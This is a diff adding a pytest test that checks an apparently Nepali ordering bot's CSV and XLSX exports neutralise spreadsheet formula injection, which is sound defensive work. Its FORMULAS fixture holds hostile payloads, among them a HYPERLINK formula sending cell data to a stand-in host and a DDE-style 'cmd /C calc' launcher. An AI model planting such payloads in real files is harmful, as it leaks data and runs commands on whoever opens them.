@@ -127,3 +127,37 @@ def test_date_ranges() -> None:
     for bad in ("2026-11-01..", "nov", "2026-12-01..2026-11-01", "2025-01-01..2026-11-01"):
         with pytest.raises(ValueError):
             parse_date_range(bad)
+
+
+FORMULAS = {"Ram Kirana": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+            "Lumbini Traders": "@SUM(1+1)*cmd|' /C calc'!A0", "reason": "-2+3", "tab": "\t=1+1", "cr": "\r=1+1"}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+async def test_cells_a_spreadsheet_would_run_are_neutralised(api: Any, fmt: str) -> None:
+    from bot.appkeys import RUNTIME
+
+    async with api.app[RUNTIME].pool.acquire() as conn:
+        await conn.execute("UPDATE users SET name = $1 WHERE name = 'Ram Kirana'", FORMULAS["Ram Kirana"])
+        await conn.execute("UPDATE users SET name = $1 WHERE name = 'Lumbini Traders'", FORMULAS["Lumbini Traders"])
+        await conn.execute("UPDATE orders SET failure_reason = $1 WHERE id = 1001", FORMULAS["reason"])
+        await conn.execute("UPDATE orders SET failure_reason = $1 WHERE id = 1002", FORMULAS["tab"])
+        await conn.execute("UPDATE orders SET failure_reason = $1 WHERE id = 1003", FORMULAS["cr"])
+    made = await _export(api, format=fmt)
+    path = EXPORT_DIR / made["file_name"]
+    if fmt == "csv":
+        with path.open(newline="", encoding="utf-8") as file:
+            rows = [dict(r) for r in csv.DictReader(file)]
+    else:
+        sheet = openpyxl.load_workbook(path)["orders"]
+        header, *body = [[c.value for c in r] for r in sheet.iter_rows()]
+        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)  # no cell is a formula
+        rows = [dict(zip(header, (("" if v is None else str(v)) for v in r), strict=True)) for r in body]
+    by_id = {int(r["order_id"]): r for r in rows}
+    assert by_id[1002]["retailer"] == "'" + FORMULAS["Ram Kirana"]
+    assert by_id[1002]["vendor"] == "'" + FORMULAS["Lumbini Traders"]
+    newline = "\r" if fmt == "csv" else "\n"  # XML keeps no bare CR
+    assert [by_id[i]["failure_reason"] for i in (1001, 1002, 1003)] == [
+        "'" + FORMULAS[k].replace("\r", newline) for k in ("reason", "tab", "cr")]
+    assert by_id[1002]["retailer_phone"].startswith("'+977")
+    assert float(by_id[1002]["total"]) == 1050 and by_id[1002]["status"] == "DELIVERED"  # numbers stay numbers
